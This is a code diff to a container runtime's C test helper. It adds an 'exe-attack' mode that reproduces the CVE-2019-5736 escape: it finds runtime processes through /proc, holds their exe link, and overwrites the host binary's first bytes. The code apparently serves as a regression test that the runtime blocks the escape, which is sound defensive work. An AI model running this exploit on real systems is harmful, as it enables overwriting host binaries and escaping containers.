@@ -24,6 +24,9 @@
  *   keyring              print the id of the session keyring
  *   getppid              call getppid(), print "getppid: ok" or the errno name (seccomp tests)
  *   getppid-value        print what getppid() returned ("getppid-value: N")
+ *   exe-attack SECS      CVE-2019-5736 as an attacker inside: for SECS, grab /proc/PID/exe of every
+ *                        process running berth-runtime's binary (or a memfd), try to open it for writing
+ *                        and overwrite its first bytes; print what was held and the write's result
  *   seccomp-agent SOCKET N SECS
  *                        on the host: a seccomp agent at SOCKET; takes N listeners (printing each
  *                        "agent-state: JSON"), answers getppid with 4242 and lets every other
@@ -176,6 +179,61 @@ static void *spin_thread(void *arg) {
     volatile unsigned long x = 0;
     while (now_seconds(CLOCK_MONOTONIC) < spin_until) for (int k = 0; k < 10000; k++) x++;
     return NULL;
+}
+
+/* CVE-2019-5736: a process running the runtime's binary shows up in the
+ * container; its /proc/PID/exe is the host file. Hold it with O_PATH, then
+ * reopen it for writing once nothing executes it any more. Keeps going after a
+ * refusal, so every process that enters during SECS is tried. */
+static void exe_attack(double secs) {
+    double end = now_seconds(CLOCK_MONOTONIC) + secs;
+    int denied = 0, tried[64], ntried = 0;
+    char held[4096] = "";
+    const char *write_result = "never tried";
+    while (now_seconds(CLOCK_MONOTONIC) < end && strcmp(write_result, "ok")) {
+        int fd = -1;
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d)) && fd < 0) {
+            int pid = atoi(e->d_name), seen = 0;
+            if (pid <= 1 || pid == getpid()) continue;
+            for (int k = 0; k < ntried; k++) seen |= tried[k] == pid;
+            if (seen) continue;
+            char link[64], dest[1024];
+            snprintf(link, sizeof link, "/proc/%d/exe", pid);
+            ssize_t n = readlink(link, dest, sizeof dest - 1);
+            if (n < 0) { if (errno == EACCES || errno == EPERM) denied++; continue; }
+            dest[n] = 0;
+            if (!strstr(dest, "berth-runtime") && !strstr(dest, "memfd:")) continue;
+            fd = open(link, O_PATH | O_CLOEXEC);
+            if (fd < 0) { denied++; continue; }
+            if (ntried < 64) tried[ntried++] = pid;
+            if (!strstr(held, dest) && strlen(held) + strlen(dest) + 2 < sizeof held) {
+                if (held[0]) strcat(held, ",");
+                strcat(held, dest);
+            }
+        }
+        if (d) closedir(d);
+        if (fd < 0) continue;
+        /* the file stays busy (ETXTBSY) while anything executes it: wait that out */
+        char self[64];
+        snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+        while (now_seconds(CLOCK_MONOTONIC) < end) {
+            int w = open(self, O_WRONLY | O_CLOEXEC);
+            if (w >= 0) {
+                ssize_t n = pwrite(w, "PWND", 4, 0);
+                write_result = n == 4 ? "ok" : errname(errno);
+                close(w);
+                break;
+            }
+            write_result = errname(errno);
+            if (errno != ETXTBSY) break;
+            struct timespec ts = {0, 1000 * 1000};
+            nanosleep(&ts, NULL);
+        }
+        close(fd);
+    }
+    printf("exe-denied: %d\nexe-held: %s\nexe-write: %s\n", denied, held[0] ? held : "none", write_result);
 }
 
 /* The other end of linux.seccomp.listenerPath: one JSON message with the fd beside it. */
@@ -384,6 +442,7 @@ int main(int argc, char **argv) {
             printf("getppid: %s\n", r >= 0 ? "ok" : errname(errno));
         }
         else if (!strcmp(cmd, "getppid-value")) printf("getppid-value: %ld\n", (long)syscall(SYS_getppid));
+        else if (!strcmp(cmd, "exe-attack")) { exe_attack(atof(ARG(1))); i += 1; }
         else if (!strcmp(cmd, "seccomp-agent")) { seccomp_agent(ARG(1), atoi(ARG(2)), atof(ARG(3))); i += 3; }
         else if (!strcmp(cmd, "kill0")) {
             int r = kill(getpid(), 0);
